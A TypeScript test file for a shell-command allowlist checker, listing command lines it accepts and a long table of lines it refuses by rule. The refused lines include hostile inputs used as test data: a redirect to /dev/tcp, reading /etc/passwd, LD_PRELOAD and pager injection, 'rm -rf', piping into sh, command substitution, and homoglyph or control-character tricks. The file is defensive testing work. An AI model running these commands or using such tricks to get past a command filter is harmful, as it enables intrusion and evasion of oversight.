// The table of lines that pass and lines that do not, by rule. Each refused line is an attack or an honest mistake.
import { describe, expect, it } from 'vitest'
import { judge } from './commands.ts'

const PATTERNS = [
  'git status',
  'git diff',
  'git add',
  'git commit',
  'ls',
  'cat',
  'grep',
  'echo',
  'cd',
  'exit *',
  'npm ci',
  'npm run build',
  'npm test *',
  'git remote * origin',
  'bash -lc *',
  'python scripts/build.py',
  '/usr/bin/env',
  'printf',
  'test',
  '[',
  'bash ci.sh',
]
const grant = { plan: 'basico', commands: PATTERNS, terminals: false }
const line = (shell: string) => judge(grant, { shell })

const PLAIN: readonly (readonly [string, readonly string[]])[] = [
  ['git status', ['git', 'status']],
  ['  git   status\t--short ', ['git', 'status', '--short']],
  ['git diff HEAD~1', ['git', 'diff', 'HEAD~1']],
  ['git diff HEAD@{1} -- src', ['git', 'diff', 'HEAD@{1}', '--', 'src']],
  ['git commit -m "fix: it\'s done"', ['git', 'commit', '-m', "fix: it's done"]],
  [`git commit -m 'a $(id) b'`, ['git', 'commit', '-m', 'a $(id) b']],
  ['git commit -m "costs 5\\$"', ['git', 'commit', '-m', 'costs 5$']],
  ['git commit -m "two\nlines"', ['git', 'commit', '-m', 'two\nlines']],
  [`git commit -m 'áéí 漢字 🚀'`, ['git', 'commit', '-m', 'áéí 漢字 🚀']],
  ['ls', ['ls']],
  ['ls -la src', ['ls', '-la', 'src']],
  ['ls a\\ b', ['ls', 'a b']],
  ['ls "a b"c', ['ls', 'a bc']],
  ["ls ''", ['ls', '']],
  ['ls \\*', ['ls', '*']],
  ['ls "*.ts"', ['ls', '*.ts']],
  ["ls '~'", ['ls', '~']],
  ['ls a~', ['ls', 'a~']],
  ['ls foo=bar', ['ls', 'foo=bar']],
  ['ls {} {x}', ['ls', '{}', '{x}']],
  ['ls # all of it', ['ls']],
  ['# first\nls', ['ls']],
  ['ls \\\n -l', ['ls', '-l']],
  ['ls;', ['ls']],
  ['ls\n', ['ls']],
  ['"git" status', ['git', 'status']],
  ["g'i't status", ['git', 'status']],
  ['grep -rn "a|b" src', ['grep', '-rn', 'a|b', 'src']],
  ["grep ';' file", ['grep', ';', 'file']],
  ["grep '&&' file", ['grep', '&&', 'file']],
  ['npm ci', ['npm', 'ci']],
  ['npm ci --ignore-scripts', ['npm', 'ci', '--ignore-scripts']],
  ['npm run build', ['npm', 'run', 'build']],
  ['npm test', ['npm', 'test']],
  ['npm test -- --run x', ['npm', 'test', '--', '--run', 'x']],
  ['git remote show origin', ['git', 'remote', 'show', 'origin']],
  ['python scripts/build.py --fast', ['python', 'scripts/build.py', '--fast']],
  ['bash ci.sh', ['bash', 'ci.sh']],
  ["bash -lc 'npm ci'", ['bash', '-lc', "'npm' 'ci'"]],
  ['bash -lc "npm ci && npm run build"', ['bash', '-lc', "'npm' 'ci' && 'npm' 'run' 'build'"]],
  [`bash -lc "bash -lc 'ls -l'"`, ['bash', '-lc', `'bash' '-lc' ''\\''ls'\\'' '\\''-l'\\'''`]],
]

const SHELL: readonly (readonly [string, string])[] = [
  ['npm ci && npm run build', "'npm' 'ci' && 'npm' 'run' 'build'"],
  ['npm ci; npm test', "'npm' 'ci'; 'npm' 'test'"],
  ['npm ci\nnpm test', "'npm' 'ci'; 'npm' 'test'"],
  ['ls || echo none', "'ls' || 'echo' 'none'"],
  ['ls | grep a | grep b && echo c', "'ls' | 'grep' 'a' | 'grep' 'b' && 'echo' 'c'"],
  ['cd src && ls', "'cd' 'src' && 'ls'"],
  ['exit 7', "'exit' '7'"],
  ['ls src/*', "'ls' 'src/'*"],
  ['ls ./*.ts', "'ls' './'*'.ts'"],
  ['ls "my dir"/?', `'ls' 'my dir''/'?`],
  ['ls src/[a-z]*.ts', "'ls' 'src/'[a-z]*'.ts'"],
  ['ls 2>&1', "'ls' 2>&1"],
  ['ls >&2', "'ls' >&2"],
  ['ls >/dev/null 2>&1', "'ls' >/dev/null 2>&1"],
  ['>/dev/null ls', "'ls' >/dev/null"],
  ['cat </dev/null', "'cat' </dev/null"],
  ['ls &>/dev/null', "'ls' &>/dev/null"],
  ['ls 2>/dev/null | grep x', "'ls' 2>/dev/null | 'grep' 'x'"],
  ["echo 'it'\\''s'; ls", `'echo' 'it'\\''s'; 'ls'`],
]

const REFUSED: readonly (readonly [rule: string, line: string, column?: number])[] = [
  ['R1', 'ls\r'],
  ['R1', 'ls\0'],
  ['R1', 'ls \u001b[31m', 4],
  ['R1', 'ls \u007f'],
  ['R1', 'ls \u0085'],
  ['R1', 'ls\u00a0-l', 3],
  ['R1', 'ls\u2003-l'],
  ['R1', 'ls \u202e'],
  ['R1', 'ls \u200b'],
  ['R1', 'ls \u2028'],
  ['R1', 'ls \ufeff'],
  ['R1', 'ls \ud800'],
  ['R1', 'ls \u000b'],
  ['R1', 'gіt status', 1],
  ['R1', '"l s"'],
  ['R2', ''],
  ['R2', '   '],
  ['R2', '# only a comment'],
  ['R2', '\n\n'],
  ['R2', 'ls (', 3],
  ['R2', 'ls (x', 3],
  ['R4', 'ls 1>(id)x', 4],
  ['R2', "ls 'open"],
  ['R2', 'ls "open'],
  ['R2', 'ls;;ls'],
  ['R2', 'ls &&'],
  ['R2', '| ls'],
  ['R2', 'then'],
  ['R2', "''"],
  ['R2', '>/dev/null'],
  ['R3', 'ls & ls', 1],
  ['R3', 'ls &'],
  ['R3', 'ls |& cat'],
  ['R3', '! ls', 1],
  ['R3', 'time ls'],
  ['R3', '(ls)'],
  ['R3', '{ ls; }'],
  ['R3', 'ls && (cat x)', 7],
  ['R3', 'if ls; then ls; fi'],
  ['R3', 'for x in a; do ls; done'],
  ['R3', 'while ls; do ls; done'],
  ['R3', 'case a in a) ls;; esac'],
  ['R3', 'ls() { cat x; }'],
  ['R3', 'function ls { cat x; }'],
  ['R3', 'coproc ls'],
  ['R3', '[[ -f x ]]'],
  ['R3', '((1))'],
  ['R4', 'ls $HOME', 4],
  ['R4', 'ls ${HOME}'],
  ['R4', 'ls "$HOME"', 5],
  ['R4', 'ls $(id)', 4],
  ['R4', 'ls "$(id)"', 5],
  ['R4', 'ls `id`', 4],
  ['R4', 'ls "`id`"'],
  ['R4', 'ls $((1))'],
  ['R4', 'ls <(id)'],
  ['R4', 'ls >(id)'],
  ['R4', "ls $'a'"],
  ['R4', 'ls $"a"'],
  ['R4', 'ls {a,b}', 4],
  ['R4', 'ls a{1..3}'],
  ['R4', 'ls @(a|b)'],
  ['R4', 'ls !(a)'],
  ['R4', 'ls ~', 4],
  ['R4', 'ls ~root/x'],
  ['R4', 'ls x=~'],
  ['R4', 'ls $\\\n"x"'],
  ['R4', 'ls "$\\\n(id)"'],
  ['R4', '$SHELL -c ls', 1],
  ['R4', '$(echo ls)'],
  ['R4b', 'ls *', 4],
  ['R4b', 'ls *.ts'],
  ['R4b', 'ls -*'],
  ['R4b', 'ls ?'],
  ['R4b', 'ls [a]'],
  ['R4b', 'ls ""*'],
  ['R4b', 'l? -l', 1],
  ['R4b', '/bin/l*'],
  ['R5', 'A=1 ls', 1],
  ['R5', 'PATH=. ls'],
  ['R5', 'LD_PRELOAD=x.so git status'],
  ['R5', 'GIT_PAGER=id git diff'],
  ['R5', 'A=1'],
  ['R5', 'ls && A=1 ls', 7],
  ['R5', 'export A=1'],
  ['R6', 'ls > out', 4],
  ['R6', 'ls >> out'],
  ['R6', 'ls >| /dev/null'],
  ['R6', 'cat < /etc/passwd'],
  ['R6', 'cat <<E\nx\nE\n'],
  ['R6', 'cat <<< x'],
  ['R6', 'ls 2> err'],
  ['R6', 'ls &> out'],
  ['R6', 'ls >& out'],
  ['R6', 'ls 2>&3'],
  ['R6', 'ls 3>&1'],
  ['R6', 'ls >&-'],
  ['R6', 'ls <> /dev/null'],
  ['R6', 'ls {fd}>&1'],
  ['R6', 'ls > /dev/null/../../etc/x'],
  ['R6', 'ls > /dev/tcp/1.2.3.4/80'],
  ['R8', 'rm -rf .', 1],
  ['R8', 'git push'],
  ['R8', 'git'],
  ['R8', 'git -c a=b status'],
  ['R8', 'GIT status'],
  ['R8', '/usr/bin/git status'],
  ['R8', './ls'],
  ['R8', 'lsof'],
  ['R8', 'env ls'],
  ['R8', 'npm run build2'],
  ['R8', 'npm run'],
  ['R8', 'npm install'],
  ['R8', 'npm ci && rm x', 11],
  ['R8', 'ls | sh', 6],
  ['R8', 'ls; curl x', 5],
  ['R8', 'ls || id', 7],
  ['R8', 'ls\nid', 4],
  ['R8', 'ls #\nid', 6],
  ['R8', 'git remote origin'],
  ['R8', 'git remote a b origin'],
  ['R8', 'git remote ./* origin'],
  ['R8', 'git remote show ./*'],
  ['R8', "bash -lc 'rm x'", 11],
  ['R8', "bash -lc 'ls; rm x'", 15],
  ['R8', 'bash -lc "ls\\\\; rm"', 10],
  ['R8', 'bash -c ls'],
  ['R8', 'bash'],
  ['R8', 'python -c x'],
  ['R4', `bash -lc 'ls $(id)'`, 14],
  ['R4', 'bash -lc "$X"'],
  ['R9t', "bash -lc 'ls' extra", 1],
  ['R9t', 'bash -lc'],
  ['R9t', 'bash ci.sh -c x'],
  ['R10', 'eval ls', 1],
  ['R10', 'exec ls'],
  ['R10', 'source x'],
  ['R10', '. x'],
  ['R10', 'command ls'],
  ['R10', 'builtin cd'],
  ['R10', 'trap id EXIT'],
  ['R5', 'alias ls=id'],
  ['R10', 'alias'],
  ['R10', 'export'],
  ['R10', '\\eval ls'],
  ['R10', 'e"va"l ls'],
  ['R10', 'read x'],
  ['R10', 'unset x'],
  ['R10', `printf -v 'a[$(id)]' x`],
  ['R10', `test -v 'a[$(id)]'`],
  ['R10', `[ -v 'a[$(id)]' ]`],
  ['R10', 'ls && eval id', 7],
]

describe('judge', () => {
  it.each(PLAIN)('runs %j without a shell', (text, argv) => {
    expect(line(text)).toEqual({ allowed: true, argv })
  })

  it.each(SHELL)('runs %j as the words it understood', (text, script) => {
    expect(line(text)).toEqual({ allowed: true, argv: ['bash', '--norc', '-c', script] })
  })

  it.each(REFUSED.map(([rule, text, column]) => ({ rule, text, column })))(
    'refuses by $rule: $text',
    ({ rule, text, column }) => {
      const verdict = line(text)
      expect(verdict).toMatchObject({ allowed: false, rule })
      if (column !== undefined) expect(verdict).toMatchObject({ column })
    },
  )

  it.each(['eval', 'exec', 'source', '.', 'command', 'builtin', 'trap', 'alias', 'export'])(
    'lets no pattern allow %s',
    (name) => {
      const commands = [name, `${name} *`, `${name} ls`]
      expect(judge({ ...grant, commands }, { shell: `${name} ls` })).toMatchObject({ rule: 'R10' })
      expect(judge({ ...grant, commands }, [name, 'ls'])).toMatchObject({ rule: 'R10' })
    },
  )

  it('names the node, the column, the plan and the pattern that would allow it', () => {
    expect(line('npm ci && git push --force')).toEqual({
      allowed: false,
      rule: 'R8',
      node: 'git push --force',
      column: 11,
      reason: 'The plan "basico" does not list "git push --force". The pattern "git push" would allow it.',
      allow: 'git push',
    })
  })

  it.each([
    ['rm -rf x', 'rm'],
    ['npm run deploy', 'npm run deploy'],
    ['cargo build', 'cargo build'],
    ['./tool', './tool'],
    ["bash -lc 'rm x'", 'rm x'],
    ['git -c core.pager=less log', 'git -c'],
    ['node -e 1', 'node -e'],
  ])('offers for %j a pattern that does allow it', (text, allow) => {
    expect(line(text)).toMatchObject({ allow })
    expect(judge({ ...grant, commands: [...PATTERNS, allow] }, { shell: text })).toMatchObject({
      allowed: true,
    })
  })

  it('denies everything under an empty list, and under a pattern that only looks like "*"', () => {
    for (const commands of [[], [''], [' * '], ['* status'], ['**']])
      expect(judge({ ...grant, commands }, { shell: 'git status' })).toMatchObject({
        allowed: false,
        rule: 'R8',
      })
  })

  it('hands any text to bash under "*", but for NUL', () => {
    const libre = { plan: 'libre', commands: ['*'], terminals: true }
    const text = 'for i in 1 2; do echo $i; done > out &'
    expect(judge(libre, { shell: text })).toEqual({ allowed: true, argv: ['bash', '--norc', '-c', text] })
    expect(judge(libre, ['rm', '-rf', 'x'])).toEqual({ allowed: true, argv: ['rm', '-rf', 'x'] })
    expect(judge(libre, { shell: 'a\0b' })).toMatchObject({ rule: 'R1' })
    expect(judge(libre, [])).toMatchObject({ rule: 'R2' })
  })

  it('judges an argv by the same patterns, with text of any kind behind them', () => {
    const message = 'fix 👩‍💻\n\n$(id) `id` * ~'
    expect(judge(grant, ['git', 'commit', '-m', message])).toEqual({
      allowed: true,
      argv: ['git', 'commit', '-m', message],
    })
    expect(judge(grant, ['git', 'push'])).toMatchObject({ rule: 'R8', node: 'git push', allow: 'git push' })
    expect(judge(grant, ['git', 'commit', '-m', 'a\0b'])).toMatchObject({ rule: 'R1' })
    expect(judge(grant, [''])).toMatchObject({ rule: 'R2' })
    expect(judge(grant, ['bash', '-lc', 'ls && rm x'])).toMatchObject({
      rule: 'R8',
      node: 'rm x',
      column: 16,
    })
    expect(judge(grant, ['bash', '-lc', 'ls   -l'])).toEqual({
      allowed: true,
      argv: ['bash', '-lc', "'ls' '-l'"],
    })
  })

  it('takes 32 commands and 8 KiB, and not one more', () => {
    const many = (count: number) => Array.from({ length: count }, () => 'ls').join(';')
    expect(line(many(32))).toMatchObject({ allowed: true })
    expect(line(many(33))).toMatchObject({ rule: 'R11' })
    expect(line(`${many(20)}; bash -lc '${many(12)}'`)).toMatchObject({ rule: 'R11' })
    expect(line(`ls ${'a'.repeat(8189)}`)).toMatchObject({ allowed: true })
    expect(line(`ls ${'a'.repeat(8190)}`)).toMatchObject({ rule: 'R11' })
    expect(line(`ls ${'é'.repeat(4095)}`)).toMatchObject({ rule: 'R11' })
  })

  it('follows scripts inside scripts four deep', () => {
    const nest = (depth: number): string =>
      depth === 0 ? 'ls' : `bash -lc '${nest(depth - 1).replaceAll("'", `'\\''`)}'`
    expect(line(nest(4))).toMatchObject({ allowed: true })
    expect(line(nest(5))).toMatchObject({ rule: 'R9t' })
  })
})
